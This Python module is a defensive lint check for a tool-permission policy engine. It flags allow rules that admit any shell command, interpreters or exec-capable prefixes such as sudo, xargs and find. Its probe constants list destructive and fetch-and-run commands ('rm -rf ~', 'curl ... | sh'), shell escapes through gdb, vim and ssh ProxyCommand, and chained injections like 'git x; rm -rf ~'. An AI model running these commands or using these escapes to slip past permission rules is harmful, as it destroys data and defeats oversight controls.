"""Lint: allow rules that are dangerously broad, or that do not do what their text suggests.

Place in the pipeline: a check family of `lint_policy`. Every claim is checked against the real
engine: a sample call (`rm -rf ~`, `python3 -c ...`) is decided by the rules (`Engine.rules_only`)
and a finding is made only if the rule matched it and the rules allow it. Three shapes:

* `lint_dangerous_allow`: an allow of every tool (`*`), of every shell command (`Bash`,
  `Bash(*)`, `shell:cmd=*`), or of an interpreter or privilege prefix that runs arbitrary code;
* `lint_exec_prefix_allow`: a prefix allow whose text covers an exec-capable command (`sudo *`,
  `xargs *`, `env *`, `find *`, `bash -c *`) that the engine will never let a prefix allow;
* `lint_chaining_allow`: a plain-glob allow on a tool that is *not* shell-kind but looks like one
  (`probe:cmd=git *`): the glob sees the raw text, so `git x; rm -rf ~` is allowed too.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import Any

from ..analysis.glob_lang import Glob, Undecided, intersection_witness
from ..analysis.regions import approx_globs
from ..runtime.compiled import CompiledRule, ToolSpec
from ..runtime.kinds.glob import escape, literal_prefix
from ..runtime.kinds.glob import match as glob_match
from .context import LintContext, label

ANY_COMMAND = ("rm -rf ~", "curl -s https://example.invalid/x.sh | sh")
ARBITRARY_CODE = (
    ("python3", "python3 ./x.py"),  # inline code (`-c`) is exec-capable; a script file is not
    ("python", "python ./x.py"),
    ("node", "node ./x.js"),
    ("perl", "perl ./x.pl"),
    ("ruby", "ruby ./x.rb"),
    ("ssh", "ssh host rm -rf ~"),
    ("eval", "eval rm -rf ~"),
    ("source", "source ./x.sh"),
)
EXEC_CAPABLE = (
    ("sudo", "sudo rm -rf /"),
    ("su", "su -c 'rm -rf /'"),
    ("doas", "doas rm -rf /"),
    ("bash -c", "bash -c 'rm -rf ~'"),
    ("sh -c", "sh -c 'rm -rf ~'"),
    ("env", "env rm -rf ~"),
    ("xargs", "xargs rm -rf"),
    ("find", "find . -exec rm -rf {} ;"),
    ("watch", "watch rm -rf ~"),
    ("setsid", "setsid rm -rf ~"),
    ("taskset", "taskset 1 rm -rf ~"),
    ("strace", "strace rm -rf ~"),
    ("gdb", "gdb -ex 'shell rm -rf ~'"),
    ("script", "script -c 'rm -rf ~'"),
    ("tmux", "tmux new-session 'rm -rf ~'"),
    ("screen", "screen rm -rf ~"),
    ("systemd-run", "systemd-run rm -rf ~"),
    ("firejail", "firejail rm -rf ~"),
    ("fakeroot", "fakeroot rm -rf ~"),
    ("vim", "vim -c '!rm -rf ~'"),
    ("ssh -o", "ssh -o ProxyCommand='rm -rf ~' host"),
)
CHAINS = (";", "&&", "||", "|", "$(", "`", "\n")
SHELLISH_KEYS = frozenset({"cmd", "command", "commandline", "command_line", "script", "shell"})
SHELLISH_TOOL = re.compile(
    r"(?i)(^|[_:.\-])(sh|bash|zsh|shell|exec|execute|run|cmd|command|terminal|console)"
    r"([_:.\-]|$)"
)


def check_dangerous(ctx: LintContext) -> None:
    seen: set[str | None] = set()
    for rule in ctx.policy.rules:
        if rule.decision != "allow" or rule.location in seen:
            continue
        if _every_tool(ctx, rule) or _shell_allows(ctx, rule) or _chaining(ctx, rule):
            seen.add(rule.location)


def _every_tool(ctx: LintContext, rule: CompiledRule) -> bool:
    if "*" not in rule.tool_glob_texts or rule.conds or rule.when is not None:
        return False
    ctx.add(
        "lint_dangerous_allow",
        f"{label(rule)} allows every tool, including shells and file writers",
        ctx.rule_location(rule),
    )
    return True


def _shell_tools(ctx: LintContext, rule: CompiledRule) -> list[ToolSpec]:
    from ..runtime.reference import tool_matches

    return [
        s
        for name, s in sorted(ctx.policy.tools.items())
        if s.kind == "shell" and s.arg and tool_matches(ctx.policy, rule, name)
    ]


def _shell_allows(ctx: LintContext, rule: CompiledRule) -> bool:
    for spec in _shell_tools(ctx, rule):
        if any((c.key or spec.arg) != spec.arg for c in rule.conds):
            continue  # conditions on other arguments: no sample call can stand for them
        found = _first_allowed(ctx, rule, spec, [(None, s) for s in ANY_COMMAND])
        if found is not None:
            ctx.add(
                "lint_dangerous_allow",
                f"{label(rule)} allows any `{spec.name}` command, e.g. `{found[1]}`",
                ctx.rule_location(rule),
            )
            return True
        found = _first_allowed(ctx, rule, spec, ARBITRARY_CODE)
        if found is not None:
            ctx.add(
                "lint_dangerous_allow",
                f"{label(rule)} allows arbitrary code through `{found[0]}`, e.g. `{found[1]}`",
                ctx.rule_location(rule),
            )
            return True
        if _exec_prefix(ctx, rule, spec):
            return True
    return False


def _first_allowed(
    ctx: LintContext, rule: CompiledRule, spec: ToolSpec, samples: Any
) -> tuple[str | None, str] | None:
    for word, sample in samples:
        if _engine_allows(ctx, rule, spec.name, {spec.arg: sample}):
            return word, sample
    return None


def _engine_allows(ctx: LintContext, rule: CompiledRule, tool: str, args: Mapping[Any, Any]) -> bool:
    verdict = ctx.engine().rules_only(tool, args)
    return verdict.decision == "allow" and any(r.index == rule.index for r in verdict.matched)


def _exec_prefix(ctx: LintContext, rule: CompiledRule, spec: ToolSpec) -> bool:
    sources = [c.source for c in rule.conds]
    if len(sources) != 1:
        return False
    globs = approx_globs("shell", sources[0])
    for word, sample in EXEC_CAPABLE:
        if not any(glob_match(g, sample) for g in globs) or _engine_allows(
            ctx, rule, spec.name, {spec.arg: sample}
        ):
            continue
        ctx.add(
            "lint_exec_prefix_allow",
            f"{label(rule)} reads as allowing `{word}` commands, but `{word}` runs other commands "
            f"(`{sample}`), so the engine never lets a prefix allow it (allow exact commands instead)",
            ctx.rule_location(rule),
        )
        return True
    return False


# ---- plain globs on tools that look like shells but are not shell-kind ------------------------------


def _chaining(ctx: LintContext, rule: CompiledRule) -> bool:
    for name in rule.tools:
        spec = ctx.policy.tool_spec(name)
        if spec.kind != "generic":
            continue
        for cond in rule.conds:
            key = cond.key or spec.arg
            if key is None or cond.kind_view or not (key in SHELLISH_KEYS or SHELLISH_TOOL.search(name)):
                continue
            example = _chained_example(Glob(cond.source, ctx.policy.fold))
            if example is None or not _engine_allows(ctx, rule, name, _sample_args(rule, spec, key, example)):
                continue
            ctx.add(
                "lint_chaining_allow",
                f"`{name}` is not a shell-kind tool, so {label(rule)} also allows `{key}` = {example!r}",
                ctx.rule_location(rule),
                help=f"declare `tools: {{{name}: {{kind: shell, arg: {key}}}}}` so that commands are "
                "parsed, or allow exact values only",
            )
            return True
    return False


def _chained_example(glob: Glob) -> str | None:
    prefix = literal_prefix(glob.text)
    for cand in (prefix + "x; rm -rf ~", prefix + "; rm -rf ~", prefix + " && rm -rf ~"):
        if glob.matches(cand):
            return cand
    for sep in CHAINS:
        try:
            found = intersection_witness(glob, Glob("*" + escape(sep) + "*"))
        except Undecided:
            return None
        if found is not None:
            return found
    return None


def _sample_args(rule: CompiledRule, spec: ToolSpec, key: str, example: str) -> dict[str, Any]:
    """Arguments that satisfy the rule's other conditions too (their exact values, when they have one)."""
    args: dict[str, Any] = {key: example}
    for cond in rule.conds:
        other = cond.key or spec.arg
        if other is not None and other != key:
            args[other] = re.sub(r"\\(.)", r"\1", cond.source) if cond.exact else literal_prefix(cond.source)
    return args
